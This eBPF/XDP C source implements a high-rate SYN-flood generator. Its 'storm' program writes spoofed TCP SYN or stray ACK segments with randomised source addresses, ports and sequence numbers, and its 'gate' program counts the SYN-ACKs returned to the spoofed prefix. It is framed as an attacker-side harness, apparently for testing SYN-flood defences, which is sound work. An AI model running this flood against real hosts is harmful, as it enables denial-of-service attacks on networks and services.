/*
 * The attacker's interface in two programs. `storm` is run on live frames (BPF_F_TEST_XDP_LIVE_FRAMES),
 * millions a second: each becomes a spoofed SYN, or another segment of no flow, when one is due. `gate` is
 * attached to the same interface: it counts the SYN-ACKs that come back for spoofed addresses, and no stack
 * sees them.
 */
#include <linux/bpf.h>
#include <linux/if_ether.h>
#include <linux/in.h>
#include <linux/ip.h>
#include <linux/tcp.h>
#include <stdbool.h>
#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>

#include "storm.h"

/* The segment that all others are made from: what changes is zero in it, and not in the sums. */
struct storm_template template;
const volatile __u64 rate; /* a second; 0: as many as can be */
const volatile bool acknowledges;
const volatile __u32 length, tsval; /* of the frame; where the upper half of its timestamp is */

__u64 start_ns, due, sent;
__u64 random = 88172645463325252ull;
__u64 answers, others; /* to spoofed addresses */

/* xorshift64 (Marsaglia, 2003) */
static __always_inline __u64 draw(void)
{
	random ^= random << 13;
	random ^= random >> 7;
	random ^= random << 17;
	return random;
}

/* What is left behind is not made up for: the rate is a ceiling. */
static __always_inline bool is_due(void)
{
	__u64 now;

	if (rate == 0)
		return true;
	now = bpf_ktime_get_ns();
	if (now < due)
		return false;
	due += 1000000000 / rate;
	if (due + STORM_LATE_NS < now)
		due = now - STORM_LATE_NS;
	return true;
}

static __always_inline __u16 fold(__u32 sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return (__u16)~sum;
}

SEC("xdp")
int storm(struct xdp_md *ctx)
{
	__u8 *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	struct iphdr *ip = (void *)(data + sizeof(struct ethhdr));
	struct tcphdr *tcp = (void *)(ip + 1);
	__u16 host, port, seq, seq_low, clock;
	__u32 sum;
	__u64 drawn;

	if (data + length > end || !is_due())
		return XDP_DROP;
	/* whole words: the kernel takes them at any address */
	if (length == STORM_LENGTH)
		__builtin_memcpy(__builtin_assume_aligned(data, 8), template.frame, STORM_LENGTH);
	else
		__builtin_memcpy(__builtin_assume_aligned(data, 8), template.frame, STORM_SHORT);
	drawn = draw();
	host = (__u16)drawn;
	port = (__u16)(drawn >> 16) | bpf_htons(1024);
	seq = (__u16)(drawn >> 32);
	seq_low = (__u16)(drawn >> 48);
	clock = (__u16)(drawn >> 24);
	((__u16 *)&ip->saddr)[1] = host;
	ip->check = fold(template.ip_sum + host);
	tcp->source = port;
	((__u16 *)&tcp->seq)[0] = seq;
	((__u16 *)&tcp->seq)[1] = seq_low;
	*(__u16 *)(data + tsval) = clock;
	sum = template.tcp_sum + host + port + seq + seq_low + clock;
	if (acknowledges) {
		tcp->ack_seq = (__u32)draw();
		sum += (tcp->ack_seq & 0xffff) + (tcp->ack_seq >> 16);
	}
	tcp->check = fold(sum);
	sent++;
	return XDP_TX;
}

SEC("xdp")
int gate(struct xdp_md *ctx)
{
	__u8 *data = (void *)(long)ctx->data, *end = (void *)(long)ctx->data_end;
	struct iphdr *ip = (void *)(data + sizeof(struct ethhdr));
	struct tcphdr *tcp = (void *)(ip + 1);

	if ((void *)(tcp + 1) > (void *)end ||
	    ((struct ethhdr *)data)->h_proto != bpf_htons(ETH_P_IP) ||
	    (ip->daddr & bpf_htonl(0xffff0000)) != bpf_htonl(STORM_PREFIX))
		return XDP_PASS;
	if (ip->protocol == IPPROTO_TCP && ip->ihl == 5 && tcp->syn && tcp->ack)
		__sync_fetch_and_add(&answers, 1);
	else
		__sync_fetch_and_add(&others, 1);
	return XDP_DROP;
}

char LICENSE[] SEC("license") = "Dual MIT/GPL";
